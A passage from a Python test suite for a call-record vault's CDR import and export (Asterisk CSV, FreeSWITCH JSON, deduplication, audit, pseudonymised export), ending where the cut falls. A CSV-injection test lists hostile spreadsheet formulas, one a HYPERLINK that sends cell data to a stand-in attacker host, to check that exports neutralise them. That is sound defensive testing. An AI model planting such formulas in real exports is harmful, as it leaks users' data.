# SPDX-License-Identifier: Apache-2.0
"""R10.1/R1.3: importing Asterisk cdr_csv files into interactions with
trails, tied to the right subjects, idempotently, with precise rejects,
and with nothing of the input left in clear on disk."""
import json
import os
import subprocess
import time

from harness import (BIN, audit_ids, cx, db_rows, expect, fails, files_containing, main,
                     new_vault, ok, ON_PG, set_config, TempDir, test)

DATA = os.environ.get("CXVAULT_TESTDATA", os.path.join(
    os.path.dirname(__file__), "..", "data"))
MASTER = os.path.join(DATA, "asterisk", "Master.csv")
FS_DIR = os.path.join(DATA, "freeswitch")
FS_JANE = os.path.join(FS_DIR, "a_5b1f0c3e-9d4e-4c1a-9a55-0f3e2d1c7a10.cdr.json")
FS_BATCH = os.path.join(FS_DIR, "batch.json")

REJECTS = {
    6: "malformed CSV (quotes)",
    7: "fewer than 16 columns",
    8: "time not 'YYYY-MM-DD HH:MM:SS'",
    9: "unknown disposition",
    13: "times out of order",
    14: "duration/billsec not numbers (billsec <= duration)",
}


def import_master(d, path=MASTER):
    r = cx("import", "cdr", "--data", d, "--format", "asterisk-csv", path)
    return r, json.loads(r.out)


def listing(d, *args):
    return [json.loads(l) for l in
            ok("interaction", "list", "--data", d, *args).out.splitlines()]


@test
def counts_and_rejects():
    """R10.1: read/imported/rejected counts; each reject names its line"""
    with TempDir() as tmp:
        d = new_vault(tmp)
        r, rep = import_master(d)
        expect(r.rc == 1, f"rejected lines must make exit 1: {r}")
        # Issue 26: the call between two extensions no user holds and
        # the withheld caller's call to one have no person to be filed
        # under: skipped and counted, no longer rejected.
        expect((rep["read"], rep["imported"], rep["duplicates"],
                rep["rejected"]) == (13, 5, 0, 6), rep)
        expect(rep["skipped"] == {"service_leg": 0, "no_person": 2}, rep)
        for line, why in REJECTS.items():
            expect(f"Master.csv:{line}: {why}" in r.err, f"line {line}: {r.err}")
        expect(len(r.err.strip().splitlines()) == len(REJECTS), r.err)
        # No partial records: only the 5 good lines are stored.
        st = json.loads(ok("status", "--data", d).out)
        expect(st["interactions"] == 5 and st["subjects"] == 4, st)


@test
def reimport_adds_nothing():
    """re-importing the same file adds nothing (keyed by uniqueid or line)"""
    with TempDir() as tmp:
        d = new_vault(tmp)
        import_master(d)
        r, rep = import_master(d)
        expect((rep["imported"], rep["duplicates"]) == (0, 5), rep)
        st = json.loads(ok("status", "--data", d).out)
        expect(st["interactions"] == 5, st)


@test
def customers_and_trails():
    """R1.3: the caller or the outbound callee is the subject, never an
    extension (issue 26); trail kept"""
    with TempDir() as tmp:
        d = new_vault(tmp)
        import_master(d)
        jane = listing(d, "--phone", "030 123456789")
        expect([i["started"] for i in jane] ==
               ["2026-11-02T09:15:01.000Z", "2026-11-03T08:00:00.000Z"], jane)
        expect(len({i["subject"] for i in jane}) == 1, "two subjects for Jane")
        expect(listing(d, "--name", "jane doe")[0]["subject"] ==
               jane[0]["subject"], "name search")
        max_ = listing(d, "--phone", "+49 30 98765432")
        expect(len(max_) == 1 and max_[0]["outcome"] == "no_answer", max_)
        expect(max_[0].get("answered") is None, max_)
        uk = listing(d, "--phone", "+44 1632 960123")
        expect(len(uk) == 1 and uk[0]["outcome"] == "answered", uk)
        expect(ok("subject", "find", "--data", d, "--phone", "101").out ==
               "", "an extension became a subject")
        fr = listing(d, "--phone", "+33123456789")
        expect(len(fr) == 1, fr)
        show = json.loads(ok("interaction", "show", "--data", d,
                             str(jane[0]["interaction"])).out)
        expect(show["fields"]["clid"] == '"Jane Doe" <+4930123456789>', show)
        expect(show["fields"]["userfield"] == "support", show)
        expect([s["step"] for s in show["trail"]] ==
               ["entered_service", "answered", "completed"], show)
        only = listing(d, "--phone", "030 123456789", "--since", "2026-11-03")
        expect(len(only) == 1, only)
        until = listing(d, "--phone", "030 123456789", "--until", "2026-11-03")
        expect(len(until) == 1 and until[0] != only[0], until)


@test
def nothing_in_clear_after_import():
    """issue 3 must-show: no caller number, name or channel in clear on disk"""
    with TempDir() as tmp:
        d = new_vault(tmp)
        import_master(d)
        needles = [b"4930123456789", b"98765432", b"441632960123",
                   b"123456789", b"Jane Doe", b"Max Mustermann",
                   b"Claire Martin", b"Mustermann", b"PJSIP/100",
                   b"1793610901.1"]
        hits = files_containing(d, needles)
        expect(hits == [], f"plaintext found: {hits}")


@test
def reads_are_audited():
    """R7.2: list and show leave audit entries naming the records"""
    with TempDir() as tmp:
        d = new_vault(tmp)
        import_master(d)
        iid = listing(d, "--phone", "+4930123456789")[0]["interaction"]
        ok("interaction", "show", "--data", d, str(iid))
        acts = [json.loads(l) for l in
                ok("audit", "list", "--data", d).out.splitlines()]
        kinds = [(a["action"], a["object_id"]) for a in acts[-3:]]
        expect(kinds[0][0] == "subject.find", kinds)
        expect(kinds[1][0] == "interaction.list", kinds)
        expect(kinds[2] == ("interaction.read", str(iid)), kinds)
        # R7.1: the import's entries name every record it made, once.
        creates = [a for a in acts if a["action"] == "interaction.create"]
        made = sorted(r[0] for r in db_rows(d, "SELECT id FROM interaction"))
        expect(len(made) == 5 and sorted(audit_ids(creates)) == made,
               (creates, made))
        expect(all("src" in a["fields"] for a in creates), creates)
        ok("audit", "verify", "--data", d)


@test
def bad_invocations():
    """unknown format, missing file, bad ids: precise errors"""
    with TempDir() as tmp:
        d = new_vault(tmp)
        fails(cx("import", "cdr", "--data", d, "--format", "cisco", MASTER),
              2, "--format")
        fails(cx("import", "cdr", "--data", d, "--format", "asterisk-csv"),
              2, "no file")
        fails(cx("import", "cdr", "--data", d, "--format", "asterisk-csv",
                 os.path.join(tmp, "nope.csv")), 1, "nope.csv",
              "No such file")
        fails(cx("interaction", "show", "--data", d, "12345"), 1,
              "no such interaction")
        fails(cx("interaction", "show", "--data", d, "x"), 2, "positive")
        fails(cx("interaction", "list", "--data", d), 2, "exactly one")
        long_line = os.path.join(tmp, "long.csv")
        with open(long_line, "w") as f:
            f.write('"' + "x" * 9000 + '"\n')
        r = cx("import", "cdr", "--data", d, "--format", "asterisk-csv",
               long_line)
        fails(r, 1, "long.csv:1: line too long")


def import_fs(d, *paths):
    r = cx("import", "cdr", "--data", d, "--format", "freeswitch-json", *paths)
    return r, [json.loads(l) for l in r.out.splitlines()]


@test
def freeswitch_documents():
    """R10.1: mod_json_cdr files (URL-encoded values, callflow) import"""
    with TempDir() as tmp:
        d = new_vault(tmp)
        r, reps = import_fs(d, FS_JANE, FS_BATCH)
        expect(r.rc == 1, r)
        expect([(x["read"], x["imported"], x["rejected"]) for x in reps] ==
               [(1, 1, 0), (6, 2, 4)], reps)
        for n, why in ((3, "start/answer/end_epoch not epoch seconds"),
                       (4, "no uuid"), (5, "times out of order"),
                       (6, "malformed JSON")):
            expect(f"batch.json: document {n}: {why}" in r.err, r.err)
        jane = listing(d, "--phone", "+4930123456789")
        expect(len(jane) == 1 and jane[0]["source"] == "freeswitch", jane)
        show = json.loads(ok("interaction", "show", "--data", d,
                             str(jane[0]["interaction"])).out)
        expect(show["fields"]["caller_id_name"] == "Jane Doe", show)
        expect(show["fields"]["last_arg"] == "user/1000@example.org", show)
        erika = listing(d, "--phone", "0711 555123")
        expect([i["outcome"] for i in erika] == ["no_answer"], erika)
        out = listing(d, "--phone", "+33 6 12 34 56 78")
        expect([i["outcome"] for i in out] == ["busy"], out)
        r, reps = import_fs(d, FS_JANE)
        expect(reps[0]["duplicates"] == 1 and reps[0]["imported"] == 0, reps)
        hits = files_containing(d, [b"4930123456789", b"Jane Doe",
                                    b"Jane%20Doe", b"Musterfrau",
                                    b"5b1f0c3e-9d4e"])
        expect(hits == [], f"plaintext found: {hits}")


@test
def answered_is_the_disposition():
    """Issue 26: a call Asterisk reports BUSY or NO ANSWER but with an
    answer time (as it writes them) is not answered in the statistics,
    in the agent's call log or the export"""
    with TempDir() as tmp:
        d = new_vault(tmp)
        ok("user", "add", "--data", d, "--logon", "A0100", "--extension",
           "100")
        lines = []
        for i, disp in enumerate(("ANSWERED", "BUSY", "NO ANSWER")):
            lines.append(
                f'"","+4930555000{i}","100","c","x","SIP/t-{i}","SIP/100",'
                f'"Dial","x","2026-11-02 10:0{i}:00","2026-11-02 10:0{i}:00",'
                f'"2026-11-02 10:0{i}:30",30,30,"{disp}","DOCUMENTATION",'
                f'"u{i}",""')
        path = os.path.join(tmp, "Master.csv")
        open(path, "w").write("\n".join(lines) + "\n")
        r, rep = import_master(d, path)
        expect(rep["imported"] == 3, rep)
        day = [json.loads(l) for l in
               ok("stats", "--data", d).out.splitlines()]
        expect(len(day) == 1 and day[0]["calls"] == 3 and
               day[0]["answered"] == 1, day)
        log = [json.loads(l) for l in ok("calllog", "show", "--data", d,
                                         "--agent", "A0100").out.splitlines()]
        expect(sorted(e["direction"] for e in log) ==
               ["incoming", "missed", "missed"], log)
        out = [json.loads(l)["outcome"] for l in ok(
            "export", "cdr", "--data", d, "--format", "json").out.splitlines()]
        expect(sorted(out) == ["answered", "busy", "no_answer"], out)


@test
def freeswitch_as_it_writes():
    """Issue 26: a broken document in a concatenated file is rejected and
    the ones after it read; older releases' duplicate "callflow" keys
    are taken; the caller's name comes from the caller profile; a
    Latin-1 percent-encoded name reads as its letters; a variable that
    cannot be read is left out and counted, never the call"""
    with TempDir() as tmp:
        d = new_vault(tmp)
        docs = [
            '{"variables":{"uuid":"a-1","caller_id_number":"+4930555001",'
            '"destination_number":"100","start_epoch":"1793713000",'
            '"end_epoch":"1793713010","hangup_cause":"NO_ANSWER"},'
            '"callflow":{"caller_profile":{"caller_id_name":"Old Flow"}},'
            '"callflow":{"caller_profile":{"caller_id_name":"Anna Alt"}}}',
            '{"variables": {"uuid": "broken", "caller_id_number": ',
            '{"variables":{"uuid":"a-2","caller_id_number":"+4930555002",'
            '"caller_id_name":"Ren%E9e M%FCller","destination_number":"100",'
            '"start_epoch":"1793713100","end_epoch":"1793713110",'
            '"hangup_cause":"NORMAL_CLEARING","sip_user_agent":"%01%02"}}',
        ]
        path = os.path.join(tmp, "cat.json")
        with open(path, "w") as f:
            f.write("\n".join(docs) + "\n")
        r, reps = import_fs(d, path)
        expect(r.rc == 1 and "cat.json: document 2: malformed JSON" in
               r.err, r)
        expect((reps[0]["imported"], reps[0]["rejected"],
                reps[0]["fields_dropped"]) == (2, 1, 1), reps)
        first = listing(d, "--phone", "+4930555001")
        expect(len(first) == 1, first)
        second = listing(d, "--phone", "+4930555002")
        show = json.loads(ok("interaction", "show", "--data", d,
                             str(second[0]["interaction"])).out)
        expect(show["fields"]["caller_id_name"] == "Renée Müller" and
               "sip_user_agent" not in show["fields"], show)
        names = [i["kind"] == "name" and i["value"] for i in json.loads(ok(
            "subject", "show", "--data", d,
            str(first[0]["subject"])).out)["identifiers"]]
        expect("Anna Alt" in names, names)


@test
def freeswitch_pretty_printed():
    """Pretty-printed documents concatenated (a '{' only at the start of
    each), one cut short in the middle: the cut one is rejected, the ones
    around it read; a document with "}" and "{" inside its strings is
    read whole"""
    with TempDir() as tmp:
        d = new_vault(tmp)
        docs = []
        for i in range(3):
            docs.append(json.dumps({"variables": {
                "uuid": f"p-{i}", "caller_id_number": f"+493055500{i}",
                "caller_id_name": 'Brace } and { "quote"\\',
                "destination_number": "100", "start_epoch": "1793713000",
                "end_epoch": "1793713010", "hangup_cause": "NORMAL_CLEARING"},
                "callflow": [{"caller_profile": {"caller_id_name": "x"}}]},
                indent=2))
        cut = docs[1][:len(docs[1]) // 2]
        path = os.path.join(tmp, "pretty.json")
        with open(path, "w") as f:
            f.write(docs[0] + "\n" + cut + "\n" + docs[2] + "\n")
        r, reps = import_fs(d, path)
        expect(r.rc == 1 and "pretty.json: document 2: malformed JSON" in
               r.err, r)
        expect((reps[0]["read"], reps[0]["imported"], reps[0]["rejected"])
               == (3, 2, 1), reps)
        got = listing(d, "--phone", "+4930555002")
        show = json.loads(ok("interaction", "show", "--data", d,
                             str(got[0]["interaction"])).out)
        expect(show["fields"]["caller_id_name"] ==
               'Brace } and { "quote"\\', show)


@test
def freeswitch_err_log_dir():
    """Issue 27.1: the files mod_json_cdr writes to err-log-dir when the
    vault could not be reached, in every mode (encode false, true,
    base64; encode-values either way; fsencode.py makes them as its C
    source does: the encoded text and a newline) import, each once"""
    import fsencode
    with TempDir() as tmp:
        d = new_vault(tmp)
        errdir = os.path.join(tmp, "json_cdr")
        os.mkdir(errdir)
        name = 'Jane "JD" Doe <+4930555777>, 50% off'
        paths = []
        for enc in ("false", "true", "base64"):
            for ev in (False, True):
                uuid = f"err-{enc}-{ev}"
                doc = {"variables": {
                    "uuid": uuid, "caller_id_name": name,
                    "caller_id_number": "+4930555777",
                    "destination_number": "100",
                    "start_epoch": "1793713000", "end_epoch": "1793713010",
                    "hangup_cause": "NORMAL_CLEARING"},
                    "callflow": [{"caller_profile": {
                        "caller_id_name": name,
                        "caller_id_number": "+4930555777",
                        "destination_number": "100"}}]}
                paths.append(os.path.join(errdir, f"a_{uuid}.cdr.json"))
                with open(paths[-1], "w") as f:
                    f.write(fsencode.encoded(doc, enc, ev) + "\n")
        r, reps = import_fs(d, *paths)
        expect(r.rc == 0 and [x["imported"] for x in reps] == [1] * 6, r)
        got = listing(d, "--phone", "+4930555777")
        expect(len(got) == 6, got)
        for i in got:
            show = json.loads(ok("interaction", "show", "--data", d,
                                 str(i["interaction"])).out)
            expect(show["fields"]["caller_id_name"] == name, show)
        r, reps = import_fs(d, *paths)
        expect([x["duplicates"] for x in reps] == [1] * 6, reps)


MSK = ("source.msk.region = RU\n"
       "source.msk.zone = Europe/Moscow\n"
       "source.msk.extensions = 300-399\n"
       "source.ber.region = DE\n")


def msk_line(src, dst, dstch, disp, uid, start="2024-01-27 15:33:20",
             chan="SIP/trunk-01", name=""):
    """An 18-column cdr_csv line in Moscow time (no usegmtime)."""
    clid = f'""{name}"" <{src}>' if name else src
    return (f'"","{src}","{dst}","pstn","{clid}","{chan}","{dstch}","Dial",'
            f'"x","{start}","{start}","{start}",0,0,"{disp}",'
            f'"DOCUMENTATION","{uid}",""')


@test
def sources_and_parties():
    """Issue 26: a source's region, zone and dial plan; every party
    classified: a national number, dialled digits, a SIP name, users'
    extensions (never customers), a withheld caller listed by the agent
    who took it, a call between extensions linked to both users, service
    legs skipped; parallel-ring legs without newcdrcolumns kept apart;
    exit 0 for a well-formed file"""
    from harness import set_config
    with TempDir() as tmp:
        d = new_vault(tmp)
        # A Russian site (national spellings found as Russia writes
        # them) with a Berlin branch, whose numbers are German.
        set_config(d, default_country_code="7")
        with open(os.path.join(d, "cxvault.conf"), "a") as f:
            f.write(MSK)
        for logon, ext in (("A0301", "301"), ("A0302", "302")):
            ok("user", "add", "--data", d, "--logon", logon, "--extension",
               ext)
        lines = [
            # A parallel ring: two legs, one uniqueid, one start, the
            # same outcome; only the called channel differs.
            msk_line("89240000001", "301", "SIP/301-1", "NO ANSWER", "u1"),
            msk_line("89240000001", "301", "SIP/302-2", "NO ANSWER", "u1"),
            msk_line("anonymous", "301", "SIP/301-3", "ANSWERED", "u2",
                     name="Anonymous"),
            msk_line("301", "302", "SIP/302-4", "ANSWERED", "u3",
                     chan="SIP/301-4"),
            msk_line("s", "h", "", "ANSWERED", "u4", chan="Local/s@x-1;2"),
            msk_line("200123456", "301", "SIP/301-5", "ANSWERED", "u5"),
            msk_line("alice@Sip.Example.org", "301", "SIP/301-6",
                     "ANSWERED", "u6"),
        ]
        path = os.path.join(tmp, "Master.csv")
        open(path, "w").write("\n".join(lines) + "\n")
        r = cx("import", "cdr", "--data", d, "--format", "asterisk-csv",
               "--source", "msk", path)
        rep = json.loads(r.out)
        expect(r.rc == 0 and rep["imported"] == 6 and rep["rejected"] == 0
               and rep["skipped"] == {"service_leg": 1, "no_person": 0},
               (r, rep))
        rep = json.loads(cx("import", "cdr", "--data", d, "--format",
                            "asterisk-csv", "--source", "msk", path).out)
        expect(rep["imported"] == 0 and rep["duplicates"] == 6, rep)
        # The region: 8 924 is Russia's +7 924; the zone: 15:33 MSK.
        legs = listing(d, "--phone", "+7 924 000 00 01")
        expect(len(legs) == 2 and {l["started"] for l in legs} ==
               {"2024-01-27T12:33:20.000Z"}, legs)
        # Digits that are no Russian number stay as dialled, exactly.
        expect(len(listing(d, "--dialled", "200123456")) == 1, "dialled")
        expect(ok("subject", "find", "--data", d, "--phone",
                  "+7200123456").out == "", "forced into a country")
        expect(len(listing(d, "--sip", "sip:alice@sip.example.org")) == 1,
               "sip")
        # Extensions are users, never customers: each finds its user's
        # person and no other subject.
        anna = json.loads(ok("user", "show", "--data", d, "A0301").out)
        bob = json.loads(ok("user", "show", "--data", d, "A0302").out)
        for ext, who in (("301", anna), ("302", bob)):
            found = json.loads(ok("subject", "find", "--data", d, "--phone",
                                  ext).out)
            expect(found["subject"] == who["subject"], (ext, found))
        st = json.loads(ok("status", "--data", d).out)
        expect(st["subjects"] == 2 + 3, st)    # users, 8924, dialled, sip
        took = [json.loads(l) for l in ok("interaction", "list", "--data", d,
                                          "--agent", "A0301")
                .out.splitlines()]
        withheld = [i for i in took if i["subject"] == anna["subject"]]
        expect(len(withheld) == 1, took)
        show = json.loads(ok("interaction", "show", "--data", d,
                             str(withheld[0]["interaction"])).out)
        expect(show["fields"]["caller_kind"] == "withheld", show)
        day = [json.loads(l) for l in ok("stats", "--data", d)
               .out.splitlines()]
        expect(sum(x["calls"] for x in day) == 6, day)
        # Between extensions: taken by Bob, made by Anna; both logs.
        inner = [json.loads(l) for l in ok("interaction", "list", "--data",
                                           d, "--agent", "A0302")
                 .out.splitlines()]
        expect(len(inner) == 1 and inner[0]["subject"] == bob["subject"],
               inner)
        log = [json.loads(l) for l in ok("calllog", "show", "--data", d,
                                         "--agent", "A0301").out.splitlines()]
        expect(("outgoing", "302") in [(e["direction"], e["number"])
                                       for e in log], log)
        # Erasing the caller found by a national spelling takes every leg.
        sid = json.loads(ok("subject", "find", "--data", d, "--phone",
                            "8 924 000 00 01").out)["subject"]
        rc = json.loads(ok("subject", "erase", "--data", d, str(sid),
                           "--reason", "objection").out)["erased"]
        expect(rc["interactions"] == 2, rc)
        expect(listing(d, "--phone", "79240000001") == [], "legs left")
        # The Berlin branch's source reads 030 as Berlin, not Russia.
        ber = os.path.join(tmp, "ber.csv")
        open(ber, "w").write(msk_line("030 12345678", "301", "SIP/301-7",
                                      "ANSWERED", "b1") + "\n")
        ok("import", "cdr", "--data", d, "--format", "asterisk-csv",
           "--source", "ber", ber)
        expect(len(listing(d, "--phone", "+49 30 12345678")) == 1, "DE")


@test
def cdr_custom_and_sources_refused():
    """Issue 26: a cdr_custom file in Asterisk's sample mapping, and one
    in a source's own columns; an unknown source or bad source key is
    named"""
    sample = ('"""Jane"" <+4930123456789>","+4930123456789","100","ctx",'
              '"SIP/t-1","SIP/100-1","Dial","x","2026-11-02 10:00:00",'
              '"2026-11-02 10:00:05","2026-11-02 10:01:05","65","60",'
              '"ANSWERED","DOCUMENTATION","","c-1","","3"')
    own = '1793613600,"+4930123456789","100","BUSY","c-2"'
    with TempDir() as tmp:
        d = new_vault(tmp)
        with open(os.path.join(d, "cxvault.conf"), "a") as f:
            f.write("source.own.columns = start, src, dst, disposition, "
                    "uniqueid\n")
        a = os.path.join(tmp, "Master.csv")
        open(a, "w").write(sample + "\n")
        r = cx("import", "cdr", "--data", d, "--format", "asterisk-custom",
               a)
        expect(r.rc == 0 and json.loads(r.out)["imported"] == 1, r)
        b = os.path.join(tmp, "own.csv")
        open(b, "w").write(own + "\n" + '"x","y"\n')
        r = cx("import", "cdr", "--data", d, "--format", "asterisk-custom",
               "--source", "own", b)
        expect(r.rc == 1 and json.loads(r.out)["imported"] == 1 and
               "own.csv:2: fewer columns than the source's mapping" in r.err,
               r)
        jane = listing(d, "--phone", "+4930123456789")
        expect(sorted(i["outcome"] for i in jane) == ["answered", "busy"],
               jane)
        fails(cx("import", "cdr", "--data", d, "--format", "asterisk-csv",
                 "--source", "nowhere", a), 2, "no source 'nowhere'")
        with open(os.path.join(d, "cxvault.conf"), "a") as f:
            f.write("source.x.zone = Mars/Olympus\n")
        fails(cx("status", "--data", d), 1, "zone must be an IANA time zone")


@test
def names_in_another_encoding():
    """Issue 26: a caller name in Latin-1 (not UTF-8) no longer drops the
    call: it is sealed as written and shown with U+FFFD in the record,
    the agent's call log and the person's export"""
    import tarfile
    line = (b'"","+4930123456789","100","ctx","""Ren\xe9e M\xfcller"" '
            b'<+4930123456789>","SIP/t-1","SIP/100-1","Dial","x",'
            b'"2026-11-02 10:00:00","2026-11-02 10:00:05",'
            b'"2026-11-02 10:01:05",65,60,"ANSWERED","DOCUMENTATION",'
            b'"u-1",""\n')
    with TempDir() as tmp:
        d = new_vault(tmp)
        ok("user", "add", "--data", d, "--logon", "A0100", "--extension",
           "100")
        path = os.path.join(tmp, "latin1.csv")
        open(path, "wb").write(line)
        r, rep = import_master(d, path)
        expect(r.rc == 0 and rep["imported"] == 1, (r, rep))
        call = listing(d, "--phone", "+4930123456789")[0]
        show = json.loads(ok("interaction", "show", "--data", d,
                             str(call["interaction"])).out)
        expect(show["fields"]["caller_name"] == "Ren\ufffde M\ufffdller",
               show)
        log = [json.loads(l) for l in ok("calllog", "show", "--data", d,
                                         "--agent", "A0100").out.splitlines()]
        expect(log[0]["name"] == "Ren\ufffde M\ufffdller", log)
        out = os.path.join(tmp, "x.tar")
        ok("subject", "export", "--data", d, str(call["subject"]), "--out",
           out)
        with tarfile.open(out) as t:
            text = b"".join(t.extractfile(m).read() for m in t.getmembers()
                            if m.isfile())
        expect("Ren\ufffde".encode() in text, "export")


@test
def one_person_across_platforms():
    """DESIGN 1: the same caller via Asterisk and FreeSWITCH is one subject"""
    with TempDir() as tmp:
        d = new_vault(tmp)
        import_master(d)
        import_fs(d, FS_JANE)
        jane = listing(d, "--phone", "030 123456789")
        expect(len(jane) == 3, jane)
        expect(len({i["subject"] for i in jane}) == 1, jane)
        expect({i["source"] for i in jane} == {"asterisk", "freeswitch"}, jane)


@test
def export_for_call_accounting():
    """R10.2: CSV/JSON export by time range, optionally pseudonymized"""
    import csv
    import io
    with TempDir() as tmp:
        d = new_vault(tmp)
        import_master(d)
        import_fs(d, FS_JANE)
        rows = list(csv.DictReader(io.StringIO(
            ok("export", "cdr", "--data", d).out)))
        expect(len(rows) == 6, rows)
        # Issue 25.4: a number starts like a formula, so it is written
        # as text for spreadsheets (docs/export.md).
        expect(rows[0]["caller"] == "'+4930123456789" and
               rows[0]["duration_s"] == "403" and
               rows[0]["billsec_s"] == "397", rows[0])
        expect([r["outcome"] for r in rows].count("answered") == 5, rows)
        day = [json.loads(l) for l in ok(
            "export", "cdr", "--data", d, "--format", "json", "--since",
            "2026-11-03", "--until", "2026-11-04").out.splitlines()]
        expect(len(day) == 2, day)
        ps = [json.loads(l) for l in ok(
            "export", "cdr", "--data", d, "--format", "json", "--since",
            "2026-11-03", "--pseudonymize").out.splitlines()]
        text = json.dumps(ps)
        expect("4930123456789" not in text and "1000" not in text, text)
        expect(ps[0]["caller"].startswith("ps:") and
               ps[0]["caller"] == ps[1]["caller"], "one person, one pseudonym")
        acts = [json.loads(l) for l in
                ok("audit", "list", "--data", d).out.splitlines()]
        exp = [a["fields"] for a in acts if a["action"] == "interaction.export"]
        expect(exp == ["caller,callee", "caller,callee", "pseudonyms"], exp)
        fails(cx("export", "cdr", "--data", d, "--format", "xml"), 2,
              "--format")


@test
def newcdrcolumns_parallel_legs_and_national_numbers():
    """Issue 26: a Master.csv as a Russian production PBX writes it (a
    byte-order mark, CRLF, newcdrcolumns' 21 columns, 8-prefixed
    numbers, a parallel ring whose legs share uniqueid and start) imports
    every leg, once; the caller is one person whichever way the number
    is written"""
    from harness import set_config
    legs = [
        ("89240000001", "211000", "SIP/301-00000004", "NO ANSWER",
         "1706369600.6", 3),
        ("89240000001", "211000", "SIP/pbx-00000005", "NO ANSWER",
         "1706369600.6", 6),
        ("89240000001", "211000", "", "ANSWERED", "1706369600.6", 7),
        ("8 924 000 00 02", "ch1", "SIP/301-00000007", "ANSWERED",
         "1706372196.14", 10),
    ]
    lines = []
    for src, dst, dstch, disp, uid, seq in legs:
        lines.append(
            f'"","{src}","{dst}","pstn","""{src}"" <{src}>",'
            f'"SIP/211000-00000003","{dstch}","Dial","SIP/301&SIP/200",'
            f'"2024-01-27 15:33:20","2024-01-27 15:33:20",'
            f'"2024-01-27 15:34:20",60,60,"{disp}","DOCUMENTATION",'
            f'"{uid}","","","{uid}",{seq}')
    with TempDir() as tmp:
        d = new_vault(tmp)
        set_config(d, default_country_code="7")
        path = os.path.join(tmp, "Master.csv")
        with open(path, "wb") as f:
            f.write(b"\xef\xbb\xbf" + "\r\n".join(lines).encode() +
                    b"\r\n")
        r, rep = import_master(d, path)
        expect(r.rc == 0 and rep["imported"] == 4 and
               rep["rejected"] == 0, rep)
        r, rep = import_master(d, path)
        expect(rep["imported"] == 0 and rep["duplicates"] == 4, rep)
        people = set()
        for spelling in ("8 924 000 00 01", "+7 924 000 00 01",
                         "79240000001"):
            got = listing(d, "--phone", spelling)
            expect(len(got) == 3, f"{spelling}: {got}")
            people.add(got[0]["subject"])
        expect(len(people) == 1, people)


@test
def csv_export_runs_no_formula():
    """Issue 25.4 (OWASP CSV injection): a value that starts with =, +, -,
    @, a tab or a carriage return (an outcome a feed posted over the API)
    leaves the CSV export as text: prefixed with a quote, never a
    formula; the JSON export keeps it as it is"""
    import csv
    import io
    from harness import ADMIN_PW, Server, api_vault
    evil = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+1+1", "-2+3",
            "@SUM(A1:A9)", "\tcmd", "\r=1"]
    with TempDir() as tmp:
        d = api_vault(tmp)
        with Server(d) as s:
            feed = s.feed_token(s.login("root", ADMIN_PW), "cdr.ingest")
            for n, v in enumerate(evil):
                st, _, doc = s.call("POST", "/v1/cdr", {
                    "id": f"x-{n}", "caller": "+49 30 1111111",
                    "callee": "+49 30 2222222",
                    "start": f"2026-11-20T10:0{n}:00Z", "outcome": v},
                    token=feed)
                expect(st == 201, doc)
        rows = list(csv.reader(io.StringIO(ok("export", "cdr", "--data",
                                              d).out, newline="")))
        cells = [c for r in rows[1:] for c in r]
        expect(all(c == "" or c[0] not in "=+-@\t\r" for c in cells),
               cells)
        expect(sorted(r[rows[0].index("outcome")] for r in rows[1:]) ==
               sorted("'" + v for v in evil), rows)
        js = [json.loads(l)["outcome"] for l in ok(
            "export", "cdr", "--data", d, "--format", "json").out.splitlines()]
        expect(sorted(js) == sorted(evil), js)

def long_value(i, what):
    """A value of 1 000 characters that names line i (long_fields)."""
    return f"{what}{i:05d}".ljust(1000, "abcdefghij"[i % 10])


def many_calls(n, callers, repeat_every, long_fields=False):
    """n cdr_csv lines, 7 s apart, from callers numbers (each with its
    name) to extensions 100 and 101 in turn; every repeat_every-th line
    is written again right after itself (a platform that wrote it
    twice); with long_fields, each line's lastdata and userfield are
    long_value()s. The lines, and the calls of each caller and
    extension."""
    lines, per_caller, per_ext = [], {}, {100: 0, 101: 0}
    for i in range(n):
        k, ext = i % callers if i % 3 else (i * 7) % callers, 100 + i % 2
        t = 1793600000 + i * 7
        when = time.strftime("%Y-%m-%d %H:%M:%S", time.gmtime(t))
        end = time.strftime("%Y-%m-%d %H:%M:%S", time.gmtime(t + 30))
        data, user = ((long_value(i, "lastdata"), long_value(i, "user"))
                      if long_fields else ("x", ""))
        line = (f'"","+49 30 5550{k:03d}","{ext}","from-trunk",'
                f'"""Caller {k}"" <+49 30 5550{k:03d}>","PJSIP/t-{i}",'
                f'"PJSIP/{ext}-{i}","Dial","{data}","{when}","{when}","{end}",'
                f'30,30,"ANSWERED","DOCUMENTATION","u{i}.{t}","{user}"')
        lines.append(line)
        if i % repeat_every == 0:
            lines.append(line)
        per_caller[k] = per_caller.get(k, 0) + 1
        per_ext[ext] += 1
    return lines, per_caller, per_ext


@test
def many_records_in_windows_and_batches():
    """Issue 28: an import of more records than are read ahead at once
    (and than one PostgreSQL round trip looks up) files every record
    under the one person of its number and name, across windows and
    batches: callers seen in an earlier window or earlier in the same,
    a record written twice in a row counted as a duplicate, each agent's
    call log kept to its last call_log_size entries; the audit chain
    verifies, and a second import (from a pipe) adds nothing"""
    with TempDir() as tmp:
        d = new_vault(tmp)
        for logon, ext in (("A0100", "100"), ("A0101", "101")):
            ok("user", "add", "--data", d, "--logon", logon, "--first-name",
               "Agent", "--last-name", ext, "--extension", ext)
        set_config(d, call_log_size=150)
        lines, per_caller, per_ext = many_calls(700, 23, 50)
        path = os.path.join(tmp, "Master.csv")
        open(path, "w").write("\n".join(lines) + "\n")
        r, rep = import_master(d, path)
        expect(r.rc == 0, r)
        expect((rep["read"], rep["imported"], rep["duplicates"]) ==
               (714, 700, 14), rep)
        st = json.loads(ok("status", "--data", d).out)
        # The 23 callers and the two agents, nobody twice.
        expect(st["interactions"] == 700 and st["subjects"] == 25, st)
        for k in (0, 7, 22):
            calls = listing(d, "--phone", f"+49 30 5550{k:03d}")
            expect(len(calls) == per_caller[k], (k, len(calls)))
            expect(len({c["subject"] for c in calls}) == 1, k)
            named = listing(d, "--name", f"caller {k}")
            expect({c["subject"] for c in named} ==
                   {calls[0]["subject"]}, (k, named[:1]))
        for agent, ext in (("A0100", 100), ("A0101", 101)):
            log = ok("calllog", "show", "--data", d, "--agent",
                     agent).out.splitlines()
            expect(per_ext[ext] > 150 and len(log) == 150, (agent, len(log)))
        ok("audit", "verify", "--data", d)
        # Again from a pipe (read ahead only as far as it has given).
        r = cx("import", "cdr", "--data", d, "--format", "asterisk-csv",
               "/dev/stdin", stdin=open(path, "rb").read())
        rep = json.loads(r.out)
        expect((rep["imported"], rep["duplicates"]) == (0, 714), rep)
        again = json.loads(ok("status", "--data", d).out)
        expect((again["interactions"], again["subjects"]) == (700, 25), again)


@test
def long_records_end_their_window_early():
